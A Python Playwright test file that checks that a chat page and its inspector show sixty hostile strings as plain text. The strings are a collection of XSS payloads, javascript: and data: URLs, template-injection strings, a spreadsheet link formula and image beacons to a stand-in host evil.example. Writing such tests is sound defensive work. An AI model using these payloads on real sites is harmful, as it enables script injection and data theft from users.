"""Hostile texts stay texts: on both pages no string of anyone's becomes markup, script or a bad link."""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import Any
from urllib.parse import quote

from . import sample
from .chat_server import ChatServer
from .test_chat_page import say, wait_for_turns

OpenPage = Callable[..., Any]

# Each would call pwned() somewhere, or lead somewhere, if it were taken for more than text.
HOSTILE = [
    "<script>pwned()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=pwned()>",
    "<img src=x onerror=&#112;wned()>",
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>",
    "<iframe src=javascript:parent.pwned()></iframe>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<object data=javascript:pwned()></object>",
    "<embed src=javascript:pwned()>",
    "<body onload=pwned()>",
    "<details open ontoggle=pwned()>",
    "<video><source onerror=pwned()></video>",
    "<audio src=x onerror=pwned()>",
    "<marquee onstart=pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<select autofocus onfocus=pwned()>",
    "<form action=javascript:pwned()><button>go</button></form>",
    "<a href=javascript:pwned()>click</a>",
    "<a href='data:text/html,<script>pwned()</script>'>click</a>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<template><script>pwned()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
    "<!--><img src=x onerror=pwned()>-->",
    "<![CDATA[<script>pwned()</script>]]>",
    "<p style=\"background:url('javascript:pwned()')\">",
    "<x contenteditable onblur=pwned() autofocus>",
    "</div></main><script>pwned()</script>",
    "</textarea><script>pwned()</script>",
    "'\"><img src=x onerror=pwned()>",
    "` onmouseover=pwned() `",
    "javascript:pwned()",
    "JaVaScRiPt:pwned()",
    "java\tscript:pwned()",
    "\u0001javascript:pwned()",
    "vbscript:pwned()",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwned()'/>",
    "file:///etc/passwd",
    "blob:http://127.0.0.1/x",
    "//evil.example/x",
    "http://user:password@evil.example/",
    "https://bank.example@evil.example/",
    "http://javascript:pwned()/",
    'https://evil.example/"onmouseover="pwned()',
    "https://evil.example/<script>pwned()</script>",
    "![picture](http://evil.example/leak?x=1)",
    "[click](javascript:pwned())",
    "`<img src=x onerror=pwned()>`",
    "```\n<script>pwned()</script>\n```",
    "{{constructor.constructor('pwned()')()}}",
    "${pwned()}",
    "\u001b]8;;http://evil.example\u0007click\u001b]8;;\u0007\u001b[2J",
    '=HYPERLINK("http://evil.example";"click")',
    "&lt;script&gt;pwned()&lt;/script&gt; \u202egnp.exe \u0000 ﷽",
]

INERT = """(root) => {
  const bad = [];
  const TEXT_TAGS = ("div p span a ul ol li dl dt dd h2 h3 h4 h5 code pre mark em strong time img svg path " +
    "button details summary article header section table thead tbody tr th td").split(" ");
  for (const element of document.querySelector(root).querySelectorAll('*')) {
    const tag = element.tagName.toLowerCase();
    if (!TEXT_TAGS.includes(tag)) bad.push(tag);
    for (const { name, value } of element.attributes) {
      const address = `${name}="${value}"`;
      // The bars of confidences set their width through the object model: that is the style of a span.
      if (/^on|^style$|^srcdoc$/.test(name) && !(name === 'style' && tag === 'span')) bad.push(address);
      if (name === 'src' && !/^(https?:|data:image\\/)/.test(value)) bad.push(address);
      if (name !== 'href') continue;
      if (!/^(https?:\\/\\/|#)/.test(value) || new URL(value, location).username) bad.push(address);
      if (/^http/.test(value) && !/noopener/.test(element.rel)) bad.push(`rel of ${address}`);
    }
  }
  return bad;
}"""


def watch(page: Any) -> list[str]:
    """Collect whatever would prove that a string came alive."""
    alive: list[str] = []
    page.context.expose_function("pwned", lambda: alive.append("pwned"))
    page.on("dialog", lambda dialog: (alive.append("dialog"), dialog.dismiss()))
    page.on("popup", lambda _: alive.append("popup"))
    page.context.route(
        re.compile(r"^\w+://[^/]*evil\.example"),
        lambda route: (alive.append(route.request.url), route.abort()),
    )
    return alive


def test_there_are_sixty_strings() -> None:
    assert len(set(HOSTILE)) == 60


def test_hostile_texts_of_bot_and_person(open_page: OpenPage, server: ChatServer) -> None:
    server.script = lambda _: [
        {"text": text, "buttons": [{"title": text, "payload": text}], "quick_replies": [{"title": text}]}
        for text in HOSTILE
    ]
    page = open_page("/inspect")
    alive = watch(page)
    page.goto(server.url)
    say(page, "\n".join(HOSTILE).replace("\u0000", ""))
    wait_for_turns(page, 1)
    shown = page.eval_on_selector_all("#log .bot .bubble", "all => all.map(b => b.textContent)")
    plain = [
        text.removeprefix("```\n").removesuffix("\n```").replace("`<", "<").replace(">`", ">")
        for text in HOSTILE
    ]
    assert [text.replace("` onmouseover=pwned() `", " onmouseover=pwned() ") for text in plain] == shown
    assert page.evaluate(INERT, "#log") == []
    for button in page.locator(".choice").all()[:4]:
        button.hover()
    page.reload()
    wait_for_turns(page, 1)
    assert page.evaluate(INERT, "#log") == []
    assert alive == []


def test_hostile_addresses(open_page: OpenPage, server: ChatServer) -> None:
    allowed = ("http://evil", "https://evil", "//evil", "data:image/svg")
    texts = [text for text in HOSTILE if not text.startswith(allowed)]
    server.script = lambda _: [
        {
            "image": text,
            "buttons": [{"title": "go", "type": "web_url", "url": text}],
            "elements": [{"title": text, "image_url": text, "default_action": {"url": text}}],
            "attachment": {"type": "file", "payload": {"url": text, "title": text}},
            "custom": {text: text},
        }
        for text in texts
    ]
    page = open_page("/inspect")
    alive = watch(page)
    page.context.route(
        "**/*", lambda route: route.fallback() if "%3C" not in route.request.url else route.abort()
    )
    page.goto(server.url)
    say(page, "go")
    wait_for_turns(page, 1)
    assert page.evaluate(INERT, "#log") == []
    # A relative address is a picture of this very server, whatever it looks like.
    sources = page.eval_on_selector_all("#log img", "all => all.map(i => new URL(i.src).origin)")
    assert set(sources) <= {server.url}
    assert alive == []


def test_pictures_as_data_run_nothing(open_page: OpenPage, server: ChatServer) -> None:
    server.script = lambda _: [{"image": text} for text in HOSTILE if text.startswith("data:")]
    page = open_page("/inspect")
    alive = watch(page)
    page.goto(server.url)
    say(page, "go")
    page.get_by_text("You").first.wait_for(state="attached")
    page.wait_for_timeout(300)
    assert page.evaluate(INERT, "#log") == []
    assert page.locator("#log img").count() == 1  # the svg; the html is no picture
    assert alive == []


def test_hostile_names(open_page: OpenPage, server: ChatServer) -> None:
    server.bot_name = "<img src=x onerror=pwned()>"
    page = open_page("/inspect")
    alive = watch(page)
    page.goto(server.url)
    say(page, "hi")
    wait_for_turns(page, 1)
    assert page.locator("#bot-name").inner_text() == server.bot_name
    assert alive == []


def test_the_inspector_shows_hostile_texts_as_they_are(open_page: OpenPage, server: ChatServer) -> None:
    events, traces = [], []
    for number, text in enumerate(HOSTILE, 1):
        heard = sample.understanding(text, "en", [(text, 0.9)], sample.entity_at(text, text, text), why=text)
        turn, trace = sample.turn_of(number, heard, sample.step(text, text, 0.5, text, text), text)
        events += turn
        traces.append(trace)
    server.events["<b>"] = events
    server.why["<b>"] = traces
    server.trackers["<b>"] = {"slots": {text: text for text in HOSTILE}, "active_loop": {"name": HOSTILE[0]}}
    server.listing = [
        {"conversation": text, "updated": number, "turns": 1} for number, text in enumerate([*HOSTILE, "<b>"])
    ]
    page = open_page("/")
    alive = watch(page)
    page.goto(f"{server.url}/inspect#{quote('<b>')}")
    page.locator("[data-turn='60']").wait_for()
    page.get_by_role("button", name="Show earlier turns").click()
    page.locator("[data-turn='1'] summary").last.click()
    assert page.locator("article").count() == 60
    assert page.evaluate(INERT, "#timeline") == []
    assert page.evaluate(INERT, "#state") == []
    assert page.evaluate(INERT, "#conversations ul") == []
    assert alive == []
